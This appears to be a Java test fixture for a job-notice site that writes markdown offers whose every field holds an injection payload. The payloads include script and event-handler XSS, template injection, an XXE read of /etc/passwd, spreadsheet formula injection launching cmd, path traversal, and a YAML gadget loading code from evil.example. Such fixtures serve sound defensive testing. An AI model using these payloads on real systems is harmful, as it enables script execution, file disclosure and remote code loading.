package babillard;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

/** Notices of somebody who would like a reader's machine to obey them: each says one hostile thing wherever it can. */
public final class HostileNotices {
    /** The name of the function that a script of theirs would call. */
    public static final String CALLED = "obeyed";

    /** What they say; each breaks out of something that a page, a feed or a file of data is made of. */
    public static final List<String> TEXTS = Stream.of(
                    "<script>obeyed(1)</script>",
                    "\"><img src=x onerror=obeyed(2)>",
                    "' autofocus onfocus='obeyed(3)' x='",
                    "</title></textarea></style></script><svg onload=obeyed(4)>",
                    "</script><script>obeyed(5)</script><!--",
                    "[clic](javascript:obeyed(6))",
                    "![clic](javascript:obeyed(7)) <javascript:obeyed(7)> [a]: javascript:obeyed(7)",
                    "[clic](data:text/html,<script>obeyed(8)</script>)",
                    "${obeyed(9)} <#include \"/etc/passwd\"> #{7*7} {{constructor.constructor('obeyed(9)')()}}",
                    "]]><script>obeyed(10)</script><![CDATA[",
                    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
                    "=HYPERLINK(\"https://evil.example/\";\"obeyed\")",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "x\\nBEGIN:VEVENT\\nSUMMARY:obeyed\\nEND:VEVENT;VALUE=URI:https://evil.example/",
                    "\u2028obeyed(15)\u2029//",
                    "<iframe srcdoc='<script>parent.obeyed(16)</script>'></iframe><meta http-equiv=refresh content=0;url=//evil.example>",
                    "<form action=https://evil.example/><input name=q><button formaction=javascript:obeyed(17)>",
                    "\\u003cscript\\u003eobeyed(18)\\u003c/script\\u003e __proto__ constructor",
                    "<a href=\"https://evil.example/\" onclick=\"obeyed(19)\">x</a> //evil.example/ \\\\evil.example\\x",
                    "&lt;script&gt;obeyed(20)&lt;/script&gt; &#60;img src=x onerror=obeyed(20)&#62;",
                    "../../../../etc/passwd %2e%2e%2f offres/../../index.html C:\\windows\\system32",
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"https://evil.example/\"]]]]",
                    "\uFF1D1+1 \uFF0Bcmd",
                    "\u202Exc.exe \u2066abc")
            .flatMap(text -> Stream.of(text, encoded(text)))
            .distinct()
            .toList();

    private HostileNotices() {}

    /** Writes them into a folder, open on 15 August 2025; each is published. */
    public static void writeInto(Path folder) throws IOException {
        Files.createDirectories(folder);
        for (int i = 0; i < TEXTS.size(); i++) {
            Files.writeString(folder.resolve("h%02d.md".formatted(i)), notice(i, TEXTS.get(i)));
        }
    }

    /** With entities, which a reader of notices turns into the characters that they stand for. */
    private static String encoded(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;");
    }

    public static String reference(int number) {
        return "3134-25-%04d/SR".formatted(9000 + number);
    }

    private static String notice(int number, String text) {
        return """
                # Agent %2$s
                Référence : %1$s du 8 août 2025
                Employeur : %2$s
                Corps /Domaine : %2$s / %2$s
                Direction : %2$s
                Service : %2$s
                Lieu de travail : Nouméa %2$s
                Durée de résidence exigée pour le recrutement : %2$s
                Emploi RESPNC : %2$s
                Poste à pourvoir : %2$s
                Nom %2$s : %2$s
                Date de dépôt de l’offre : vendredi 8 août 2025
                Date limite de candidature : vendredi 29 août 2025

                # Missions :

                %2$s

                - %2$s

                | %2$s | b |
                | --- | --- |
                | %2$s | %2$s |

                ```
                %2$s
                ```

                # %2$s :

                %2$s

                # Contact et informations complémentaires :

                %2$s tél : 26.79.38 / mél : a@mairie.example?bcc=%2$s

                # Pour répondre à cette offre :

                %2$s
                """.formatted(reference(number), text);
    }
}
